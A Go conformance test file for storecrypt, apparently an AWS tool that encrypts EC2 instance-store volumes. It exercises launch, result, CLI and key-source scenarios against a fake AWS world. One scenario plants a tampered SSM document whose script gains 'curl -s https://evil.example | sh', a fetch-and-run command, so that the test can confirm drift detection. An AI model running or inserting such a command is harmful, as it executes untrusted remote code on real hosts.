package conformance

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/events"
	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudformation"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	"github.com/aws/aws-sdk-go-v2/service/eventbridge"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/kms"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/ssm"
	"github.com/aws/aws-sdk-go-v2/service/sts"

	samples "github.com/storecrypt/storecrypt/events"
	"github.com/storecrypt/storecrypt/instance-agent/keysource"
	"github.com/storecrypt/storecrypt/instance-agent/s3object"
	"github.com/storecrypt/storecrypt/internal/awscfg"
	"github.com/storecrypt/storecrypt/internal/contract"
	"github.com/storecrypt/storecrypt/internal/fakeaws"
	"github.com/storecrypt/storecrypt/internal/launch"
	"github.com/storecrypt/storecrypt/internal/ledger"
	"github.com/storecrypt/storecrypt/internal/opcli"
	"github.com/storecrypt/storecrypt/internal/result"
	fakedeploy "github.com/storecrypt/storecrypt/test/deployment"
)

// run is what one part of storecrypt did in a scenario: its calls, and its metric lines.
type run struct {
	world   *fakeaws.World
	calls   []fakeaws.Call
	metrics bytes.Buffer
}

var launched = time.Date(2026, 11, 27, 6, 0, 0, 0, time.UTC)

const (
	keyUserInstance = "i-0a000000000000001"
	blockedInstance = "i-0a000000000000002"
	skippedInstance = "i-0a000000000000003"
	lateInstance    = "i-0a000000000000004"
	driftInstance   = "i-0a000000000000005"
	optedOut        = "i-0a000000000000006"
	doneInstance    = "i-0a000000000000007"
	revokedInstance = "i-0a000000000000008"
)

// launchRun: a batch with an instance in scope by the stack's profile, one opted in by tag
// whose role is no key user, one without instance store, one whose SSM agent is late,
// one opted out, and one SSM records as encrypted; a sweep; and a batch after someone made
// another document version the default.
func (d *deployment) launchRun(t *testing.T) *run {
	t.Helper()
	r := &run{world: d.world(t)}
	w := r.world
	other := fakeaws.NamesIn(d.Env.Partition, d.Env.Region).Web
	w.AddInstance(keyUserInstance, "i4i.large", d.instanceProfile, nil, launched)
	w.AddInstance(blockedInstance, "i4i.large", fakeaws.Profile(other), map[string]string{contract.TagEncrypt: "true"}, launched)
	w.AddInstance(skippedInstance, "m5.large", d.instanceProfile, nil, launched)
	w.AddInstance(lateInstance, "i4i.large", d.instanceProfile, nil, launched).OnlineAfter = -1
	w.AddInstance(optedOut, "i4i.large", d.instanceProfile, map[string]string{contract.TagEncrypt: "false"}, launched)
	w.AddInstance(doneInstance, "i4i.large", d.instanceProfile, map[string]string{contract.TagStatus: contract.StatusEncrypted,
		contract.TagLaunchTime: launched.Format(time.RFC3339), contract.TagCommandID: fakedeploy.CommandID("c-done")}, launched)
	w.Commands = append(w.Commands, &fakeaws.Command{ID: fakedeploy.CommandID("c-done"), DocumentName: d.documentName, DocumentVersion: "1", InstanceIDs: []string{doneInstance},
		Requested: launched.Add(time.Minute), Invocations: map[string]*fakeaws.Invocation{doneInstance: {Status: "Success", Stdout: d.report(doneInstance)}}})
	book, read := d.ledger(t, w)
	handler := func() *launch.Handler {
		c, err := launch.LoadConfig(func(k string) string { return d.launchEnv[k] })
		if err != nil {
			t.Fatal(err)
		}
		h := launch.New(c, w.Config(), slog.New(slog.DiscardHandler), &r.metrics)
		h.Now = func() time.Time { return launched.Add(2 * time.Minute) }
		h.Ledger = book
		return h
	}
	h := handler()
	ctx := context.Background()
	batch := events.SQSEvent{}
	for _, id := range []string{keyUserInstance, blockedInstance, skippedInstance, lateInstance, optedOut, doneInstance} {
		batch.Records = append(batch.Records, w.Receive(id, launch.StateChangeEvent(id, launched), 1))
	}
	if _, err := h.HandleSQS(ctx, batch); err != nil {
		t.Fatal(err)
	}
	// The opted-out instance terminates: its ledger item is closed.
	gone := strings.Replace(launch.StateChangeEvent(optedOut, launched.Add(time.Hour)), `"state":"running"`, `"state":"terminated"`, 1)
	if resp, err := h.HandleSQS(ctx, events.SQSEvent{Records: []events.SQSMessage{{MessageId: "m-gone", Body: gone}}}); err != nil || len(resp.BatchItemFailures) > 0 {
		t.Fatalf("closing the ledger item: %v %v", resp, err)
	}
	if it, err := read.Get(ctx, optedOut, launched); err != nil || it == nil || it.TerminatedAt == "" || it.Reason != string(contract.ReasonOptedOut) {
		t.Fatalf("the opted-out instance's ledger item: %+v %v", it, err)
	}
	sweep, err := samples.Read("scheduled-sweep.json")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := h.Invoke(ctx, sweep); err != nil {
		t.Fatal(err)
	}
	w.AddDocument(d.documentName, strings.Replace(d.document, "set -eu", "set -eu; curl -s https://evil.example | sh", 1), true)
	w.AddInstance(driftInstance, "i4i.large", d.instanceProfile, nil, launched)
	drift := events.SQSEvent{Records: []events.SQSMessage{{MessageId: "m-drift", Body: launch.StateChangeEvent(driftInstance, launched)}}}
	if _, err := handler().HandleSQS(ctx, drift); err != nil {
		t.Fatal(err)
	}
	r.expect(t, map[string]string{keyUserInstance: contract.StatusPending, blockedInstance: contract.StatusBlocked,
		skippedInstance: contract.StatusSkipped, driftInstance: contract.StatusPending, optedOut: contract.StatusSkipped, doneInstance: contract.StatusEncrypted})
	r.calls = w.Log()
	return r
}

// expect checks the instances' status tags: the scenario did what it means to.
func (r *run) expect(t *testing.T, want map[string]string) {
	t.Helper()
	r.world.With(func() {
		for id, status := range want {
			if got := r.world.Instances[id].Tags[contract.TagStatus]; got != status {
				t.Errorf("scenario: %s is %q, want %q", id, got, status)
			}
		}
	})
}

// report is the agent's output for a successful apply under the deployment's key.
func (d *deployment) report(id string) string {
	return fakedeploy.AgentOutput(id, d.source, d.keyARN, "ok")
}

// resultRun: one invocation that succeeded with the agent's evidence, one the agent
// refused.
func (d *deployment) resultRun(t *testing.T) *run {
	t.Helper()
	return d.resultRunWith(t, nil)
}

// refuseFindings has Security Hub refuse every import (an SCP's deny, say): the findings
// are lost, and the functions count them.
func refuseFindings(_, op string, _ int) error {
	if op == "BatchImportFindings" {
		return fakeaws.APIError("AccessDeniedException", "not authorized to perform securityhub:BatchImportFindings")
	}
	return nil
}

// resultRunWith is resultRun in a world whose calls fault answers first.
func (d *deployment) resultRunWith(t *testing.T, fault fakeaws.Fault) *run {
	t.Helper()
	r := &run{world: d.world(t)}
	w := r.world
	w.Fault = fault
	w.AddInstance(keyUserInstance, "i4i.large", d.instanceProfile, nil, launched)
	w.AddInstance(skippedInstance, "i4i.large", d.instanceProfile, nil, launched)
	w.With(func() {
		w.Commands = append(w.Commands,
			&fakeaws.Command{ID: fakedeploy.CommandID("c-ok"), DocumentName: d.documentName, DocumentVersion: "1", InstanceIDs: []string{keyUserInstance},
				Invocations: map[string]*fakeaws.Invocation{keyUserInstance: {Status: "Success", Stdout: d.report(keyUserInstance)}}},
			&fakeaws.Command{ID: fakedeploy.CommandID("c-refused"), DocumentName: d.documentName, DocumentVersion: "1", InstanceIDs: []string{skippedInstance},
				Invocations: map[string]*fakeaws.Invocation{skippedInstance: {Status: "Failed", ResponseCode: 3}}})
	})
	h, read := d.resultHandler(t, w, &r.metrics)
	d.ended(t, h, "ssm-success.json", fakedeploy.CommandID("c-ok"), keyUserInstance)
	d.ended(t, h, "ssm-failed.json", fakedeploy.CommandID("c-refused"), skippedInstance)
	r.expect(t, map[string]string{keyUserInstance: contract.StatusEncrypted, skippedInstance: contract.StatusFailed})
	if it, err := read.Get(context.Background(), keyUserInstance, launched); err != nil || it == nil || it.EncryptedAt == "" {
		t.Errorf("the encrypted instance's ledger item: %+v %v", it, err)
	}
	d.revokedRun(t, w, h)
	r.calls = w.Log()
	return r
}

// revokedRun has the result function record a revoke the key user's instance answers
// with the agent's report, read against the revoke document's deployed content.
func (d *deployment) revokedRun(t *testing.T, w *fakeaws.World, h *result.Handler) {
	t.Helper()
	name := d.resultEnv[contract.RevocationDocuments[0].EnvName]
	rep, _ := json.MarshalIndent(contract.Report{Command: "revoke", Result: "ok", Devices: []contract.Device{}, Steps: []contract.Step{},
		Revocation: &contract.Revocation{State: contract.Revoked, Reason: "incident 7", By: "arn:aws:iam::111122223333:user/responder"}}, "", "  ")
	w.With(func() {
		w.Commands = append(w.Commands, &fakeaws.Command{ID: fakedeploy.CommandID("c-revoke"), DocumentName: name, DocumentVersion: "1", InstanceIDs: []string{keyUserInstance},
			Requested: launched.Add(2 * time.Minute), Invocations: map[string]*fakeaws.Invocation{keyUserInstance: {Status: "Success", Stdout: string(rep) + "\n"}}})
	})
	b, err := samples.Read("ssm-revoke-success.json")
	if err != nil {
		t.Fatal(err)
	}
	var e events.CloudWatchEvent
	if err := json.Unmarshal(b, &e); err != nil {
		t.Fatal(err)
	}
	detail := result.Detail{CommandID: fakedeploy.CommandID("c-revoke"), InstanceID: keyUserInstance, DocumentName: name, Status: "Success",
		Requested: launched.Add(2 * time.Minute).Format(time.RFC3339Nano)}
	e.Detail, _ = json.Marshal(detail)
	out, err := h.Handle(context.Background(), e)
	if err != nil || out == nil || out.Status != contract.StatusRevoked {
		t.Errorf("the revoke's result: got %+v, %v, want revoked", out, err)
	}
}

// resultHandler is the deployment's result function in w, with a ledger of its own, and
// the test's reader of that ledger.
func (d *deployment) resultHandler(t *testing.T, w *fakeaws.World, metrics io.Writer) (*result.Handler, *ledger.Ledger) {
	t.Helper()
	c, err := result.LoadConfig(func(k string) string { return d.resultEnv[k] })
	if err != nil {
		t.Fatal(err)
	}
	h := result.New(c, w.Config(), slog.New(slog.DiscardHandler), metrics)
	h.Now = func() time.Time { return launched.Add(3 * time.Minute) }
	book, read := d.ledger(t, w)
	h.Ledger = book
	return h, read
}

// ended hands h SSM's event of command's end on instance, as the sample file (an
// invocation that succeeded or failed) says it.
func (d *deployment) ended(t *testing.T, h *result.Handler, file, command, instance string) {
	t.Helper()
	b, err := samples.Read(file)
	if err != nil {
		t.Fatal(err)
	}
	var e events.CloudWatchEvent
	if err := json.Unmarshal(b, &e); err != nil {
		t.Fatal(err)
	}
	var detail result.Detail
	if err := json.Unmarshal(e.Detail, &detail); err != nil {
		t.Fatal(err)
	}
	detail.CommandID, detail.InstanceID, detail.DocumentName = command, instance, d.documentName
	detail.Requested = launched.Add(time.Minute).Format(time.RFC3339Nano)
	e.Detail, _ = json.Marshal(detail)
	if _, err := h.Handle(context.Background(), e); err != nil {
		t.Fatal(err)
	}
}

// cliRun: every command of `storecrypt` an operator runs.
func (d *deployment) cliRun(t *testing.T) *run {
	t.Helper()
	r := &run{world: d.world(t)}
	w := r.world
	w.AddInstance(keyUserInstance, "i4i.large", d.instanceProfile, map[string]string{
		contract.TagStatus: contract.StatusEncrypted, contract.TagCommandID: fakedeploy.CommandID("c-ok"), contract.TagAt: launched.Add(time.Minute).Format(time.RFC3339)}, launched)
	// An instance a responder revoked: status reads who, when and why from the ledger.
	w.AddInstance(revokedInstance, "i4i.large", d.instanceProfile, map[string]string{contract.TagStatus: contract.StatusRevoked}, launched)
	w.With(func() {
		w.Commands = append(w.Commands, &fakeaws.Command{ID: fakedeploy.CommandID("c-ok"), DocumentName: d.documentName, DocumentVersion: "1", Requested: launched.Add(time.Minute), InstanceIDs: []string{keyUserInstance},
			Invocations: map[string]*fakeaws.Invocation{keyUserInstance: {Status: "Success", Stdout: d.report(keyUserInstance)}}})
	})
	w.OnCommand = func(c *fakeaws.Command) {
		if err := w.SetInvocation(c.ID, c.InstanceIDs[0], fakeaws.Invocation{Status: "Success", Stdout: d.report(c.InstanceIDs[0])}); err != nil {
			t.Error(err)
		}
	}
	// A default version someone changed: rerun reads the versions to find the deployed
	// content, and the operator's policy must let it.
	w.AddDocument(d.documentName, strings.Replace(d.document, "set -eu", "set -eu; id", 1), true)
	d.launchGrants(w, keyUserInstance)
	commands := [][]string{
		{"status"}, {"report"},
		{"verify", "--instance", keyUserInstance, "--kms-key-id", d.keyARN, "--key-source", d.source, "--secret", d.launchEnv[contract.EnvSecret]},
		{"verify", "--role", d.instanceRole, "--kms-key-id", d.keyARN, "--key-source", d.source, "--secret", d.launchEnv[contract.EnvSecret]},
		{"rerun", "--instance", keyUserInstance, "--document", d.documentName, "--timeout", "1m"},
	}
	if d.secretBucket != "" {
		key := strings.SplitN(strings.TrimPrefix(d.launchEnv[contract.EnvSecret], "s3://"), "/", 2)[1]
		commands = append(commands, []string{"put-secret", "--generate", "--bucket", d.secretBucket, "--key", key, "--kms-key-id", d.keyARN})
	}
	// A responder revokes one instance, then the fleet (the first one's mark stands and is
	// read back), and resumes the fleet once the launch function's sweep has granted
	// each instance again.
	commands = append(commands,
		[]string{"revoke", keyUserInstance, "--yes", "--reason", "INC-1 conformance"},
		[]string{"revoke", "--all", "--yes", "--reason", "INC-2 conformance"},
		[]string{"resume", "--all", "--yes", "--reason", "INC-2 closed", "--wait", "1s"})
	d.runCLI(t, w, commands, func(args []string) {
		if args[0] == "resume" {
			d.launchGrants(w, keyUserInstance, revokedInstance)
		}
	})
	r.calls = w.Log()
	return r
}

// shredRun: a responder with the shred policy beside the operator's shreds an instance.
func (d *deployment) shredRun(t *testing.T) *run {
	t.Helper()
	r := &run{world: d.world(t)}
	w := r.world
	w.AddInstance(keyUserInstance, "i4i.large", d.instanceProfile, map[string]string{contract.TagStatus: contract.StatusEncrypted}, launched)
	d.launchGrants(w, keyUserInstance)
	d.runCLI(t, w, [][]string{{"revoke", keyUserInstance, "--shred", "--yes", "--confirm-shred", keyUserInstance, "--reason", "INC-3 conformance"}}, func([]string) {})
	r.calls = w.Log()
	return r
}

// runCLI runs each command of `storecrypt` as the operator's session ("alice", whom
// revoke and resume record in the ledger), calling before ahead of each.
func (d *deployment) runCLI(t *testing.T, w *fakeaws.World, commands [][]string, before func(args []string)) {
	t.Helper()
	cfg := w.Config()
	book, _ := d.ledger(t, w)
	clients := opcli.Clients{EC2: ec2.NewFromConfig(cfg), SSM: ssm.NewFromConfig(cfg), IAM: iam.NewFromConfig(cfg), KMS: kms.NewFromConfig(cfg), S3: s3.NewFromConfig(cfg),
		CloudFormation: cloudformation.NewFromConfig(cfg), DynamoDB: book.DB, STS: sts.NewFromConfig(cfg), Events: eventbridge.NewFromConfig(cfg)}
	w.Caller = d.sessionOf(d.operatorRole(), "alice")
	// No --stack: the CLI finds the stack by the export the template gives it, whatever
	// AWS::StackName is (a StackSet's stack instance is StackSet-<name>-<id>).
	for _, args := range commands {
		before(args)
		var out, errOut bytes.Buffer
		code := opcli.Main(context.Background(), args, strings.NewReader(""), &out, &errOut,
			func(context.Context, awscfg.Options) (opcli.Clients, error) { return clients, nil })
		if code != 0 {
			t.Fatalf("storecrypt %v: exit %d\n%s%s", args, code, out.String(), errOut.String())
		}
	}
}

// launchGrants gives each instance the grant the launch function makes for it with
// kms-datakey (launchGrant's shape), in w's state: the launch function's call, not the
// operator's, so it is not in w's log.
func (d *deployment) launchGrants(w *fakeaws.World, ids ...string) {
	if d.source != contract.KeySourceKMSDataKey {
		return
	}
	w.With(func() {
		k := w.Keys[d.keyARN]
		for _, id := range ids {
			k.Grants = append(k.Grants, fakeaws.Grant{ID: fmt.Sprintf("grant-%d", len(k.Grants)), Name: id, Grantee: d.instanceRole, Retiring: d.launchRole,
				Operations: []string{"Decrypt"}, ContextSubset: map[string]string{contract.ContextInstanceARN: d.instanceARN(id)}})
		}
	})
}

// agentRun: the agent's key source makes a new volume's key and recovers it (kms-datakey),
// and recovers a volume made before the context named the instance by ARN; or reads the
// seed secret (s3-kms), as it does on the instance.
func (d *deployment) agentRun(t *testing.T) *run {
	t.Helper()
	r := &run{world: d.world(t)}
	w := r.world
	cfg := w.Config()
	ctx := context.Background()
	src := keysource.Sources{KMS: kms.NewFromConfig(cfg), S3: sdkS3{s3.NewFromConfig(cfg)},
		Owner: func(context.Context) (string, error) { return fakeaws.Account, nil }}
	opts := contract.DefaultAgentOptions()
	opts.KeySource, opts.KMSKeyID, opts.Secret = d.source, d.keyARN, d.launchEnv[contract.EnvSecret]
	vol := keysource.Volume{InstanceARN: d.instanceARN(keyUserInstance), UUID: "6a3c0b1e-0d5f-4c2b-9e7a-1f2e3d4c5b6a"}
	// Setup: what exists before the agent runs, made by others; those calls are not the agent's.
	if d.source == contract.KeySourceS3KMS {
		// The operator stored the secret (put-secret), SSE-KMS in the secret bucket.
		bucket, key, err := contract.SecretLocation(opts.Secret)
		if err != nil {
			t.Fatal(err)
		}
		enc, err := src.KMS.(*kms.Client).Encrypt(ctx, &kms.EncryptInput{KeyId: &d.keyARN, Plaintext: []byte("correct horse battery staple\n")})
		if err != nil {
			t.Fatal(err)
		}
		w.With(func() {
			w.Objects = map[string]fakeaws.Object{bucket + "/" + key: {Body: enc.CiphertextBlob, Version: "v1", SSEKMSID: d.keyARN}}
			w.BucketKeys = map[string]bool{bucket: d.secretBucketKey}
		})
	}
	r.calls = newAndRecover(t, w, src, opts, vol)
	return r
}

// newAndRecover runs the agent's key source on vol as it runs on the instance: a new
// volume's key, then its recovery from the token. It returns the calls they made in w.
func newAndRecover(t *testing.T, w *fakeaws.World, src keysource.Sources, opts contract.AgentOptions, vol keysource.Volume) []fakeaws.Call {
	t.Helper()
	ctx := context.Background()
	setup := len(w.Log())
	k, err := src.New(ctx, opts, vol)
	if err != nil {
		t.Fatal(err)
	}
	k.Zero()
	again, err := src.Recover(ctx, k.Token, vol)
	if err != nil {
		t.Fatal(err)
	}
	again.Zero()
	return w.Log()[setup:]
}

// instanceARN is an instance's ARN in the deployment's partition, region and account.
func (d *deployment) instanceARN(id string) string {
	return contract.InstanceARN(d.Env.Partition, d.Env.Region, d.Env.Account, id)
}

func (d *deployment) sessionOf(role, name string) string {
	return fmt.Sprintf("arn:%s:sts::%s:assumed-role/%s/%s", d.Env.Partition, d.Env.Account, role[strings.LastIndex(role, "/")+1:], name)
}

// sdkS3 reads through the SDK's S3 client what the agent's own client (s3object) reads
// with one signed GetObject, so that the fake account sees, authorizes and logs the call.
type sdkS3 struct{ c *s3.Client }

func (s sdkS3) Get(ctx context.Context, bucket, key, version, owner string, limit int64) (s3object.Object, error) {
	in := &s3.GetObjectInput{Bucket: aws.String(bucket), Key: aws.String(key), ExpectedBucketOwner: aws.String(owner)}
	if version != "" {
		in.VersionId = aws.String(version)
	}
	out, err := s.c.GetObject(ctx, in)
	if err != nil {
		return s3object.Object{}, err
	}
	defer out.Body.Close()
	body, err := io.ReadAll(io.LimitReader(out.Body, limit))
	return s3object.Object{Body: body, VersionID: aws.ToString(out.VersionId)}, err
}
